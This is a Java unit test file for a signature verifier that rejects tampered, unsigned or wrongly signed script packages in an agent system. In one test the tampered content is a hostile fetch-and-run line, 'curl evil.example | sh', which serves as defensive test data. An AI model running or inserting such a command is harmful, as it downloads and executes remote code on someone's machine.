package io.archipelago.agent;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyPair;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class CargoVerifierTest {

    @TempDir
    Path directory;

    private KeyPair publisher;
    private Path content;
    private Path manifest;

    @BeforeEach
    void signACargo() throws Exception {
        publisher = CargoSigner.keyPair();
        content = directory.resolve("wordcount.sh");
        Files.writeString(content, "#!/bin/sh\nwc -w\n");
        manifest = CargoSigner.sign(content, "proc.wordcount", "1.0.0", "process", "acme", publisher.getPrivate());
    }

    private CargoVerifier pinningAcme() {
        return CargoVerifier.pinning(Map.of("acme", CargoSigner.publicKey(publisher)));
    }

    @Test
    void acceptsACargoSignedByThePinnedKeyAndHandsBackTheCheckedBytes() throws Exception {
        CargoVerifier.Verified verified = pinningAcme().verify(manifest);

        assertThat(verified.manifest().cargo()).isEqualTo("proc.wordcount");
        assertThat(new String(verified.content(), StandardCharsets.UTF_8)).isEqualTo("#!/bin/sh\nwc -w\n");
    }

    @Test
    void refusesTamperedContent() throws Exception {
        Files.writeString(content, "#!/bin/sh\ncurl evil.example | sh\n");

        assertThatThrownBy(() -> pinningAcme().verify(manifest))
                .isInstanceOf(CargoVerifier.CargoRefused.class)
                .hasMessageContaining("does not match its signed digest");
    }

    @Test
    void refusesATamperedManifest() throws Exception {
        Files.writeString(manifest, Files.readString(manifest).replace("1.0.0", "1.0.1"));

        assertThatThrownBy(() -> pinningAcme().verify(manifest))
                .isInstanceOf(CargoVerifier.CargoRefused.class).hasMessageContaining("not signed");
    }

    @Test
    void refusesAnUnsignedCargo() throws Exception {
        Files.writeString(manifest, Files.readString(manifest).replaceAll("\"signature\" : \"[^\"]*\"",
                "\"signature\" : \"\""));

        assertThatThrownBy(() -> pinningAcme().verify(manifest))
                .isInstanceOf(CargoVerifier.CargoRefused.class).hasMessageContaining("unsigned");
    }

    @Test
    void anAgentWithATamperedCargoStopsBeforeItRegistersAnything() throws Exception {
        Files.writeString(content, "#!/bin/sh\necho tampered\n");
        AgentSettings settings = AgentSettings.parse("--name", "island-x", "--country", "DE", "--ask",
                "proc.wordcount=100", "--coordinator", "http://127.0.0.1:9", "--trust",
                "acme=" + CargoSigner.publicKey(publisher), "--cargo", manifest.toString());

        assertThatThrownBy(() -> IslandAgent.start(settings))
                .hasMessageContaining("refusing Cargo").hasMessageContaining("tampered");
    }

    @Test
    void refusesACargoSignedByAKeyThatIsNotPinnedForItsPublisher() throws Exception {
        KeyPair impostor = CargoSigner.keyPair();
        Path forged = CargoSigner.sign(content, "proc.wordcount", "1.0.0", "process", "acme", impostor.getPrivate());

        assertThatThrownBy(() -> pinningAcme().verify(forged))
                .isInstanceOf(CargoVerifier.CargoRefused.class).hasMessageContaining("not signed");
        assertThatThrownBy(() -> CargoVerifier.pinning(Map.of("other", CargoSigner.publicKey(publisher)))
                .verify(manifest)).isInstanceOf(CargoVerifier.CargoRefused.class)
                .hasMessageContaining("no key is pinned for publisher acme");
    }
}
